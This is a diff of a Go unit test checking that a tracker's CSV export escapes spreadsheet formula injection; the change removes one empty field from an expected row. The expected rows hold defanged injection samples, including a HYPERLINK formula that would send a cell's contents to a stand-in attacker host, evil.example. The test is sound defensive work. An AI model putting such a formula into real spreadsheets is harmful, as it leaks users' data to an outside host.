@@ -34,7 +34,7 @@ func TestTrackerCSVIsSafeInASpreadsheet(t *testing.T) {
 	rows, err := csv.NewReader(&buf).ReadAll()
 	require.NoError(t, err)
 	require.Len(t, rows, 4)
-	assert.Equal(t, []string{`'=HYPERLINK("http://evil.example/?"&B2,"Eve")`, "eve@riverside.sch.uk", "0/1", "0/0", "0/0", "", "0", "", "", "false", "no_overseer"}, rows[1])
+	assert.Equal(t, []string{`'=HYPERLINK("http://evil.example/?"&B2,"Eve")`, "eve@riverside.sch.uk", "0/1", "0/0", "0/0", "", "0", "", "false", "no_overseer"}, rows[1])
 	assert.Equal(t, `Smith, "Ann"`+"\nthe second", rows[2][0])
 	assert.Equal(t, []string{"'@SUM(1+1)", "'-x@riverside.sch.uk"}, rows[3][:2])
 }
